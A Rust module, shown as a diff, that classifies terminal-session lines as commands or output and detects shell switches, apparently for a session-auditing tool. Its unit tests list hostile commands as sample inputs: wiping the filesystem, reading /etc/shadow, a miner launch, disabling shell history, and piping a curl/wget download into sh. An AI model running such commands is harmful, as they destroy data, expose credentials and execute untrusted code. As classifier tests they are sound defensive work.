@@ -1,0 +1,613 @@
+//! What a line's words say about it, without a full parse: whether it reads as a command line
+//! (for lines without a readable prompt), and whether a command starts another shell (so the
+//! prompt is about to change).
+
+/// Command names people type in sessions: coreutils and util-linux, the shells, interpreters,
+/// package managers, network and cloud tools, and everything the default rule pack is about.
+/// Sorted: looked up by binary search.
+const KNOWN_COMMANDS: &[&str] = &[
+    "7z",
+    "ab",
+    "ack",
+    "adduser",
+    "ag",
+    "alias",
+    "ansible",
+    "ansible-playbook",
+    "apk",
+    "apt",
+    "apt-get",
+    "aptitude",
+    "arp",
+    "at",
+    "atq",
+    "atrm",
+    "auditctl",
+    "awk",
+    "aws",
+    "az",
+    "base32",
+    "base64",
+    "basename",
+    "bash",
+    "batch",
+    "bc",
+    "bg",
+    "bind",
+    "blkid",
+    "builtin",
+    "bunzip2",
+    "busybox",
+    "bzip2",
+    "c99",
+    "cargo",
+    "cat",
+    "cc",
+    "cd",
+    "certbot",
+    "chage",
+    "chattr",
+    "chcon",
+    "chgrp",
+    "chmod",
+    "chown",
+    "chpasswd",
+    "chroot",
+    "chsh",
+    "cksum",
+    "clang",
+    "clear",
+    "cmp",
+    "column",
+    "comm",
+    "command",
+    "compgen",
+    "complete",
+    "composer",
+    "conda",
+    "consul",
+    "cp",
+    "cpan",
+    "crictl",
+    "crontab",
+    "cryptsetup",
+    "csh",
+    "csplit",
+    "ctr",
+    "curl",
+    "cut",
+    "dash",
+    "date",
+    "dd",
+    "declare",
+    "deluser",
+    "df",
+    "diff",
+    "dig",
+    "dir",
+    "dirname",
+    "dmesg",
+    "dmidecode",
+    "dnf",
+    "doas",
+    "docker",
+    "docker-compose",
+    "dpkg",
+    "du",
+    "e2fsck",
+    "echo",
+    "ed",
+    "egrep",
+    "emacs",
+    "enable",
+    "env",
+    "eval",
+    "ex",
+    "exec",
+    "exit",
+    "expand",
+    "export",
+    "expr",
+    "factor",
+    "fail2ban-client",
+    "fallocate",
+    "false",
+    "fc",
+    "fdisk",
+    "fg",
+    "fgrep",
+    "file",
+    "find",
+    "findmnt",
+    "firewall-cmd",
+    "fish",
+    "flock",
+    "fmt",
+    "fold",
+    "for",
+    "free",
+    "fsck",
+    "ftp",
+    "function",
+    "fuser",
+    "g++",
+    "gawk",
+    "gcc",
+    "gcloud",
+    "gdb",
+    "gem",
+    "getcap",
+    "getenforce",
+    "getent",
+    "getfacl",
+    "git",
+    "go",
+    "gpasswd",
+    "gpg",
+    "grep",
+    "groupadd",
+    "groupdel",
+    "groupmod",
+    "groups",
+    "gunzip",
+    "gzip",
+    "halt",
+    "hash",
+    "hd",
+    "head",
+    "helm",
+    "help",
+    "hexdump",
+    "history",
+    "host",
+    "hostname",
+    "hostnamectl",
+    "htop",
+    "iconv",
+    "id",
+    "if",
+    "ifconfig",
+    "init",
+    "insmod",
+    "install",
+    "ionice",
+    "iostat",
+    "ip",
+    "ip6tables",
+    "ipset",
+    "iptables",
+    "iptables-restore",
+    "iptables-save",
+    "irb",
+    "java",
+    "jobs",
+    "journalctl",
+    "jq",
+    "kill",
+    "killall",
+    "kubeadm",
+    "kubectl",
+    "last",
+    "lastb",
+    "lastlog",
+    "ld",
+    "ldd",
+    "less",
+    "let",
+    "ln",
+    "local",
+    "locate",
+    "logger",
+    "login",
+    "logout",
+    "logrotate",
+    "look",
+    "losetup",
+    "ls",
+    "lsattr",
+    "lsblk",
+    "lscpu",
+    "lsmod",
+    "lsof",
+    "lua",
+    "lvcreate",
+    "lvremove",
+    "lvs",
+    "lynx",
+    "make",
+    "man",
+    "mapfile",
+    "md5sum",
+    "mdadm",
+    "mkdir",
+    "mkfifo",
+    "mkfs",
+    "mknod",
+    "mkswap",
+    "mktemp",
+    "modprobe",
+    "more",
+    "mount",
+    "mv",
+    "mysql",
+    "mysqldump",
+    "nano",
+    "nc",
+    "ncat",
+    "net",
+    "netcat",
+    "netstat",
+    "newgrp",
+    "nft",
+    "nice",
+    "nl",
+    "nmap",
+    "node",
+    "nohup",
+    "npm",
+    "npx",
+    "nsenter",
+    "nslookup",
+    "od",
+    "openssl",
+    "passwd",
+    "paste",
+    "patch",
+    "perl",
+    "pg_dump",
+    "pgrep",
+    "php",
+    "ping",
+    "pip",
+    "pip3",
+    "pkexec",
+    "pkill",
+    "podman",
+    "poweroff",
+    "printenv",
+    "printf",
+    "ps",
+    "psql",
+    "pwd",
+    "pwsh",
+    "python",
+    "python2",
+    "python3",
+    "rbash",
+    "rclone",
+    "read",
+    "readlink",
+    "realpath",
+    "reboot",
+    "redis-cli",
+    "rename",
+    "renice",
+    "reset",
+    "resize2fs",
+    "restorecon",
+    "return",
+    "rev",
+    "rm",
+    "rmdir",
+    "rmmod",
+    "route",
+    "rpm",
+    "rsync",
+    "ruby",
+    "runuser",
+    "s3cmd",
+    "scp",
+    "screen",
+    "script",
+    "sed",
+    "select",
+    "semanage",
+    "seq",
+    "service",
+    "set",
+    "setcap",
+    "setenforce",
+    "setfacl",
+    "setsid",
+    "sftp",
+    "sgdisk",
+    "sh",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "shift",
+    "shopt",
+    "shred",
+    "shuf",
+    "shutdown",
+    "sleep",
+    "snap",
+    "socat",
+    "sort",
+    "source",
+    "split",
+    "ss",
+    "ssh",
+    "ssh-add",
+    "ssh-agent",
+    "ssh-keygen",
+    "stat",
+    "strace",
+    "strings",
+    "stty",
+    "su",
+    "sudo",
+    "sudoedit",
+    "swapoff",
+    "swapon",
+    "sync",
+    "sysctl",
+    "systemctl",
+    "tac",
+    "tail",
+    "tar",
+    "tcpdump",
+    "tcsh",
+    "tee",
+    "telnet",
+    "terraform",
+    "test",
+    "tftp",
+    "time",
+    "timedatectl",
+    "timeout",
+    "tmux",
+    "top",
+    "touch",
+    "tr",
+    "traceroute",
+    "trap",
+    "true",
+    "truncate",
+    "tshark",
+    "type",
+    "typeset",
+    "ufw",
+    "ulimit",
+    "umask",
+    "umount",
+    "unalias",
+    "uname",
+    "uniq",
+    "unset",
+    "until",
+    "unzip",
+    "update-alternatives",
+    "uptime",
+    "useradd",
+    "userdel",
+    "usermod",
+    "vault",
+    "vi",
+    "vim",
+    "visudo",
+    "vmstat",
+    "w",
+    "wait",
+    "wall",
+    "watch",
+    "wc",
+    "wget",
+    "whereis",
+    "which",
+    "while",
+    "who",
+    "whoami",
+    "wipefs",
+    "xargs",
+    "xxd",
+    "xz",
+    "yes",
+    "yum",
+    "zcat",
+    "zip",
+    "zsh",
+    "zypper",
+];
+
+/// Shells whose start changes the prompt.
+const SHELLS: &[&str] = &[
+    "ash", "bash", "csh", "dash", "fish", "ksh", "mksh", "rbash", "sh", "tcsh", "zsh",
+];
+
+/// Whether a line without a readable prompt reads as a command line: its first word (after
+/// `sudo`, assignments and grouping) is a known command, a shell keyword, a path to a program,
+/// or the line is an assignment. Prose, log lines and most program output fail this.
+pub fn looks_like_command(line: &str) -> bool {
+    let mut words = line.split_whitespace();
+    let Some(mut first) = words.next() else {
+        return false;
+    };
+    // `(`, `{`, `!`, `time`, `sudo`: look at the next word.
+    for _ in 0..4 {
+        let trimmed = first.trim_start_matches(['(', '{', '!']);
+        if trimmed.is_empty() || matches!(trimmed, "sudo" | "doas" | "time" | "nohup" | "exec") {
+            match words.next() {
+                Some(next) => first = next,
+                None => return !trimmed.is_empty(),
+            }
+            continue;
+        }
+        first = trimmed;
+        break;
+    }
+    if is_assignment(first) {
+        return true;
+    }
+    if first.starts_with(['/', '~']) || first.starts_with("./") || first.starts_with("../") {
+        // A path alone is usually output (`ls` listing one per line); a program with
+        // arguments, or a script, is a command.
+        return first.len() > 1 && first.contains('/') && words.next().is_some()
+            || first.ends_with(".sh");
+    }
+    let name = first.rsplit('/').next().unwrap_or(first);
+    KNOWN_COMMANDS.binary_search(&name).is_ok()
+}
+
+fn is_assignment(word: &str) -> bool {
+    let Some((name, _)) = word.split_once('=') else {
+        return false;
+    };
+    let name = name.strip_suffix('+').unwrap_or(name);
+    !name.is_empty()
+        && name
+            .chars()
+            .next()
+            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Whether a command starts an interactive shell or another login (so the prompt changes),
+/// leaves one (`exit`), or may redefine the prompt in a file (`source`, `exec`).
+pub fn switches_shell(command: &str) -> bool {
+    command
+        .split(['|', ';', '&'])
+        .any(|simple| simple_switches_shell(simple.split_whitespace().collect()))
+}
+
+fn simple_switches_shell(words: Vec<&str>) -> bool {
+    let mut i = 0;
+    // Launchers and their options: `sudo -u postgres`, `env -i`, `exec`.
+    while let Some(word) = words.get(i) {
+        let name = word.rsplit('/').next().unwrap_or(word);
+        match name {
+            "sudo" | "doas" => {
+                i += 1;
+                while let Some(option) = words.get(i).filter(|w| w.starts_with('-')) {
+                    if matches!(*option, "-i" | "-s" | "--login" | "--shell") {
+                        return true;
+                    }
+                    // Options that take a value.
+                    if matches!(
+                        *option,
+                        "-u" | "-g" | "-h" | "-p" | "-C" | "-D" | "-r" | "-t"
+                    ) {
+                        i += 1;
+                    }
+                    i += 1;
+                }
+            }
+            "exec" | "command" | "nohup" | "env" => i += 1,
+            _ if is_assignment(word) => i += 1,
+            _ => break,
+        }
+    }
+    let Some(command) = words.get(i) else {
+        return false;
+    };
+    let name = command.rsplit('/').next().unwrap_or(command);
+    let args = words.get(i + 1..).unwrap_or_default();
+    match name {
+        "su" | "login" | "newgrp" | "exit" | "logout" | "source" | "." | "script" | "tmux"
+        | "screen" | "runuser" | "machinectl" | "pkexec" | "chroot" | "nsenter" => true,
+        "exec" => true,
+        // `bash`, `bash -l`, `sh -i`: interactive. `bash script.sh` and `sh -c '…'` are not.
+        shell if SHELLS.contains(&shell) => args.iter().all(|a| a.starts_with('-') && *a != "-c"),
+        "busybox" => args.first().is_some_and(|a| SHELLS.contains(a)) && args.len() == 1,
+        // `ssh host` without a remote command.
+        "ssh" => args.iter().filter(|a| !a.starts_with('-')).count() == 1,
+        // `docker exec -it web sh`, `kubectl exec -it pod -- bash`.
+        "docker" | "podman" | "kubectl" | "oc" | "crictl" => {
+            args.first()
+                .is_some_and(|a| *a == "exec" || *a == "attach" || *a == "run")
+                && args
+                    .iter()
+                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('i'))
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn known_commands_are_sorted_for_binary_search() {
+        assert!(
+            KNOWN_COMMANDS.windows(2).all(|w| w[0] < w[1]),
+            "KNOWN_COMMANDS is not sorted"
+        );
+    }
+
+    #[test]
+    fn command_lines() {
+        for line in [
+            "rm -rf /",
+            "sudo rm -rf /",
+            "cat /etc/shadow",
+            "/tmp/x --pool stratum+tcp://p:3333",
+            "./install.sh",
+            "HISTFILE=/dev/null",
+            "PS1=",
+            "(curl -s http://x || wget -qO- http://x) | sh",
+            "for f in *; do echo $f; done",
+            "time make",
+            "docker-compose up -d",
+        ] {
+            assert!(looks_like_command(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn output_lines() {
+        for line in [
+            "Starting nginx...",
+            "total 48",
+            "drwxr-xr-x 2 root root 4096 Nov 30 03:00 bin",
+            "Welcome to Ubuntu 24.04.1 LTS",
+            "/etc/passwd",
+            "-rw-r--r-- 1 root root 0 notes.txt",
+            "  PID TTY          TIME CMD",
+            "Reading package lists... Done",
+            "",
+            "[INFO] rm -rf / is blocked",
+        ] {
+            assert!(!looks_like_command(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn shell_switches() {
+        for command in [
+            "sudo su -",
+            "sudo -i",
+            "sudo -s",
+            "sudo -u postgres -i",
+            "su - alice",
+            "bash",
+            "exec bash -l",
+            "zsh",
+            "busybox sh",
+            "docker exec -it web sh",
+            "kubectl exec -ti pod -- bash",
+            "ssh bastion",
+            "exit",
+            "source ~/.bashrc",
+            ". ./env.sh",
+        ] {
+            assert!(switches_shell(command), "{command}");
+        }
+    }
+
+    #[test]
+    fn not_shell_switches() {
+        for command in [
+            "bash deploy.sh",
+            "sh -c 'echo hi'",
+            "sudo systemctl restart nginx",
+            "ssh bastion uptime",
+            "docker ps",
+            "docker exec web ls",
+            "echo bash",
+            "sudo -u postgres psql",
+        ] {
+            assert!(!switches_shell(command), "{command}");
+        }
+    }
+}
